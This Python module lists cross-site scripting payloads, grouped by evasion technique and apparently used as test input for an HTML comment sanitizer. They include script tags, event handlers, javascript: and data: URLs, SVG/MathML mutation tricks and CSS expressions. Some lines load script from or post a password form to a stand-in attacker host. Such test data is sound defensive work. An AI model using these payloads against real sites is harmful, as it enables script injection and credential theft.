"""Known cross-site scripting payloads, typed as a comment body.

Gathered from the usual cheat sheets (OWASP's filter evasion list, PortSwigger's,
the DOMPurify and bleach bug reports) and grouped by the trick they rely on.
"""

SCRIPT_ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<script>alert(1)</script",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "</script><script>alert(1)</script>",
    '<script x=">">alert(1)</script>',
    "<script>/*</script>*/alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:,alert(1)"/></svg>',
    "<math><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noscript><script>alert(1)</script></noscript>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://example.org/" onclick="alert(1)">x</a>',
    '<a href="https://example.org/" onmouseover=alert(1)>x</a>',
    '<a href="https://example.org/" ONCLICK="alert(1)">x</a>',
    '<a href="https://example.org/"onclick="alert(1)">x</a>',
    '<blockquote onmouseover="alert(1)">q</blockquote>',
    '<strong onclick="alert(1)">x</strong>',
    "<b onmouseover=alert(1)>x</b>",
    '<abbr title="x" onfocus="alert(1)" tabindex="1">x</abbr>',
    '<del datetime="2024-01-01" onclick="alert(1)">x</del>',
    "<code onclick=alert(1)>x</code>",
    '<p onclick="alert(1)">x</p>',
    '<br onclick="alert(1)">',
    "<x onclick=alert(1)>x</x>",
    '<custom-element onclick="alert(1)">x</custom-element>',
    '<a title="&quot; onmouseover=&quot;alert(1)">x</a>',
    "<a title='\" onmouseover=\"alert(1)'>x</a>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="javascript:123">x</a>',
    '<a href="javascript:alert`1`">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#x20;javascript:alert(1)">x</a>',
    '<a href="  &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="vbscript:1">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:1">x</a>',
    '<a href="DATA:text/html,x">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="/comments/">relative</a>',
    '<a href="javascript:alert(1)" href="https://example.org/">first one wins</a>',
    '<a href="https://example.org/">x<a href="javascript:alert(1)">y</a></a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="vbscript:msgbox(1)">q</q>',
    '<q cite="data:text/html,x">q</q>',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
]

NAMESPACE_CONFUSION = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1'
    '&Tab;onerror=alert(1)&gt;">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror="alert(1)">',
]

COMMENTS_AND_CDATA = [
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--",
    "x<!--y",
    '<a href="https://example.org/"><!--</a><img src=x onerror=alert(1)>-->x</a>',
]

EMBEDDING_AND_REDIRECTS = [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
]

STYLES = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<a style="behavior:url(x.htc)" href="https://example.org/">x</a>',
    '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
    '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
]

UNCLOSED_AND_MALFORMED = [
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)"',
    '<div><a href="javascript:alert(1)">x',
    '<a href="https://example.org/"<img src=x onerror=alert(1)>x</a>',
    "<a <script>alert(1)</script>>x</a>",
    '<a href="https://example.org/" rel="opener" target="_blank">x</a>',
    '<a href="https://example.org/" ping="https://evil.example/">x</a>',
    '<a href="https://example.org/" id="x" class="y" name="z">x</a>',
    '<a title="x" title="y" href="javascript:alert(1)">duplicate attributes</a>',
    "<</p>iframe src=javascript:alert(1)>",
]

PLAIN_TEXT_FOR_LINKIFY = [
    "javascript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    'www.example.org/"><script>alert(1)</script>',
    "http://example.org/<script>alert(1)</script>",
    "(javascript:alert(1)) and (https://example.org/x)",
    "data:text/html,<script>alert(1)</script> www.example.org",
    '<a href="https://example.org/">https://example.org/" onclick="alert(1)</a>',
]

XSS_PAYLOADS = (
    SCRIPT_ELEMENTS
    + EVENT_HANDLERS
    + DANGEROUS_URLS
    + NAMESPACE_CONFUSION
    + COMMENTS_AND_CDATA
    + EMBEDDING_AND_REDIRECTS
    + STYLES
    + UNCLOSED_AND_MALFORMED
    + PLAIN_TEXT_FOR_LINKIFY
)
